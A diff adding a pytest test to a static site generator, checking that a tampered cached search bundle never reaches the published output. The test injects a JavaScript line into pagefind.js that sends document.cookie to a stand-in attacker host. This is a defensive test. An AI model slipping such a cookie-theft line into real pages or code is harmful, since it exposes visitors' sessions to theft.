@@ -266,6 +266,31 @@ def test_a_damaged_cache_is_ignored(tmp_path, monkeypatch):
     assert zipfile.is_zipfile(cached)
 
 
+def tamper(archive_path: Path, name: str, prefix: bytes) -> None:
+    """Prefix one member of a cached bundle, keeping the rest and the comment (its digest) as they were."""
+    with zipfile.ZipFile(archive_path) as archive:
+        comment = archive.comment
+        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
+    with zipfile.ZipFile(archive_path, "w") as archive:
+        archive.comment = comment
+        for filename, data in members:
+            archive.writestr(filename, prefix + data if filename == name else data)
+
+
+def test_a_tampered_cached_bundle_never_reaches_the_output(tmp_path):
+    # Sites are cloned from repositories others commit to: a cache in the site folder is not trusted.
+    site = write_site(tmp_path / "site", SITE)
+    build_ok(site)
+    tamper(site / ".docket-cache" / search.CACHE_NAME, "pagefind.js", b"fetch('https://evil.example/?'+document.cookie);\n")
+    (site / "site.yaml").write_text("title: Other title\nbase_url: https://example.org/\n", encoding="utf-8")
+    build_ok(site)  # the records are the same: without a check, the tampered bundle would be reused
+    clean = tmp_path / "clean"
+    build_ok(site, "--no-cache", "--output", str(clean))
+    published = (site / "output/pagefind/pagefind.js").read_bytes()
+    assert b"evil.example" not in published
+    assert published == (clean / "pagefind/pagefind.js").read_bytes()
+
+
 # --------------------------------------------------------------------------- failure
 
 
